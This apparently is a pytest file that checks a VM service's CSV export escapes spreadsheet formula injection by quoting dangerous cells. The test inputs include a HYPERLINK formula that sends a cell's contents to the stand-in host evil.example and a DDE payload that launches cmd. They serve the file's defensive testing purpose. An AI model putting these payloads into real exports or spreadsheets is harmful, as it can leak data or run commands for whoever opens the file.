"""ExportVMs' CSV: a text cell a spreadsheet would run as a formula is written as text (OWASP
"CSV injection": a leading `'`); numbers and timestamps are written as they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest

from service.domain.schemas import VM, VMStatus, rfc3339
from service.http.controllers.export import CSV_COLUMNS, FORMULA_TRIGGERS, csv_rows
from tests.api.helpers import BASE, Client, vm_body

NOW = datetime(2024, 5, 1, 12, 0, 0, tzinfo=UTC)
SAFE = VM(
    id="665f1c2e8b3e4a0012345678", name="web-01", project="default", status=VMStatus.RUNNING,
    os="ubuntu", cpu_cores=2, memory_mib=4096, storage_gib=40, ip_address="10.0.0.5",
    labels={"a": "b"}, description="plain", revision=3, created_at=rfc3339(NOW),
    updated_at=rfc3339(NOW),
)  # fmt: skip
# Each text column with a value starting with a trigger, whether or not the API lets it in.
TEXT_COLUMNS = {
    "id": {"id": "{}1+1"},
    "name": {"name": "{}cmd"},
    "os": {"os": '{}HYPERLINK("http://evil.example/?x="&A1,"click")'},
    "ip_address": {"ip_address": "{}1"},
    "labels": {"labels": {"{}k": "v"}},
    "description": {"description": '{}cmd|" /C calc"!A0'},
}
OTHER_COLUMNS = {"project", "status", "cpu_cores", "memory_mib", "storage_gib", "revision"}
OTHER_COLUMNS |= {"created_at", "updated_at"}


def _cells(vm: VM) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(csv_rows([vm], header=True).decode(), newline="")))
    assert len(rows) == 1
    return rows[0]


def _with(overrides: dict[str, Any], trigger: str) -> VM:
    fields = {
        key: {k.format(trigger): v for k, v in value.items()}
        if isinstance(value, dict)
        else value.format(trigger)
        for key, value in overrides.items()
    }
    return msgspec.structs.replace(SAFE, **fields)


def test_the_tables_name_every_column() -> None:
    assert set(TEXT_COLUMNS) | OTHER_COLUMNS == set(CSV_COLUMNS)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
@pytest.mark.parametrize("column", list(TEXT_COLUMNS))
def test_a_text_cell_starting_with_a_trigger_gets_a_quote(column: str, trigger: str) -> None:
    vm = _with(TEXT_COLUMNS[column], trigger)
    cell = _cells(vm)[column]
    assert cell.startswith("'" + trigger), cell
    assert _cells(SAFE)[column][0] != "'"
    others = {k: v for k, v in _cells(vm).items() if k != column}
    assert others == {k: v for k, v in _cells(SAFE).items() if k != column}


def test_numbers_keep_their_sign_and_timestamps_their_form() -> None:
    vm = msgspec.structs.replace(SAFE, cpu_cores=-2, memory_mib=-1, storage_gib=-3, revision=-4)
    cells = _cells(vm)
    assert (cells["cpu_cores"], cells["memory_mib"], cells["storage_gib"]) == ("-2", "-1", "-3")
    assert cells["revision"] == "-4"
    assert cells["created_at"] == cells["updated_at"] == "2024-05-01T12:00:00.000Z"
    assert cells["status"] == "running"


@pytest.mark.usefixtures("clean")
async def test_an_export_neutralises_what_a_client_may_write(client: Client) -> None:
    evil_os = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    evil_description = '+cmd|" /C calc"!A0'
    body = vm_body(os=evil_os, description=evil_description, labels={"k": "=1"})
    assert (await client.post(BASE, json=body)).status_code == 201
    plain = vm_body(name="web-02", os="-ubuntu", description="@here\tthere")
    assert (await client.post(BASE, json=plain)).status_code == 201
    answer = await client.get(f"{BASE}/export?sort=name", headers={"Accept": "text/csv"})
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [(r["os"], r["description"], r["labels"]) for r in rows] == [
        ("'" + evil_os, "'" + evil_description, "k==1"),
        ("'-ubuntu", "'@here\tthere", ""),
    ]
